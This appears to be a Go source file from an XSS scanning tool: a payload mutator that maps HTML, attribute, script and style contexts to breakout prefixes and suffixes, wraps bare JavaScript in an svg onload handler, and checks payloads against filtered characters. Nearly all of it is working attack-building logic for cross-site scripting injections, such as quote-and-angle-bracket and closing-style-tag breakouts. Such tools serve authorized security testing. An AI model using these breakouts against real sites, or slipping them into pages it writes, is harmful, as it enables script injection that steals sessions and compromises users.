package payloads

import (
	"strings"

	"github.com/Serdar715/xssctx/internal/xsscontext"
)

// BreakoutChars are the characters a context breakout can depend on, in the
// order the filter test probes them.
var BreakoutChars = []string{"<", ">", "'", "\"", "/", "=", " ", "-", "*", "\n"}

// breakout is the text needed before and after a script payload to leave a
// context and return to a state where the payload runs.
type breakout struct {
	prefix string
	suffix string
	// wrap turns bare JavaScript into markup for contexts that need a tag.
	wrap bool
}

var breakouts = map[string]breakout{
	xsscontext.Tag:                {prefix: "svg onload=", suffix: " x"},
	xsscontext.HTMLText:           {wrap: true},
	xsscontext.HTMLComment:        {prefix: "-->", wrap: true},
	xsscontext.AttrName:           {prefix: " onmouseover=", suffix: " x"},
	xsscontext.AttrSingleQuote:    {prefix: "'>", wrap: true},
	xsscontext.AttrDoubleQuote:    {prefix: "\">", wrap: true},
	xsscontext.ScriptMultiComment: {prefix: "*/", suffix: "/*"},
	xsscontext.ScriptLineComment:  {prefix: "\n", suffix: "//"},
	xsscontext.ScriptSingleQuote:  {prefix: "';", suffix: ";//"},
	xsscontext.ScriptDoubleQuote:  {prefix: "\";", suffix: ";//"},
	xsscontext.ScriptText:         {prefix: ";", suffix: ";//"},
	xsscontext.StyleText:          {prefix: "</style>", wrap: true},
	xsscontext.StyleComment:       {prefix: "*/</style>", wrap: true},
	xsscontext.StyleSingleQuote:   {prefix: "'</style>", wrap: true},
	xsscontext.StyleDoubleQuote:   {prefix: "\"</style>", wrap: true},
}

// Mutator adapts payloads to the context they are reflected in
type Mutator struct{}

// NewMutator creates a new payload mutator
func NewMutator() *Mutator {
	return &Mutator{}
}

// Adapt wraps payload with what it needs to leave the named context.
// Payloads that already carry markup are only prefixed; bare JavaScript is
// wrapped in an svg handler where the context needs a tag. Unknown context
// names return the payload unchanged.
func (m *Mutator) Adapt(payload, contextName string) string {
	b, ok := breakouts[contextName]
	if !ok {
		return payload
	}

	body := payload
	if b.wrap && !strings.Contains(payload, "<") {
		body = "<svg onload=" + payload + ">"
	}
	if strings.HasPrefix(body, b.prefix) {
		return body + b.suffix
	}
	return b.prefix + body + b.suffix
}

// RequiredChars returns the breakout characters that occur in payload.
func RequiredChars(payload string) []string {
	var chars []string
	for _, c := range BreakoutChars {
		if strings.Contains(payload, c) {
			chars = append(chars, c)
		}
	}
	return chars
}

// Usable reports whether payload avoids every filtered character.
func Usable(payload string, filtered []string) bool {
	if len(filtered) == 0 {
		return true
	}
	blocked := make(map[string]bool, len(filtered))
	for _, c := range filtered {
		blocked[c] = true
	}
	for _, c := range RequiredChars(payload) {
		if blocked[c] {
			return false
		}
	}
	return true
}
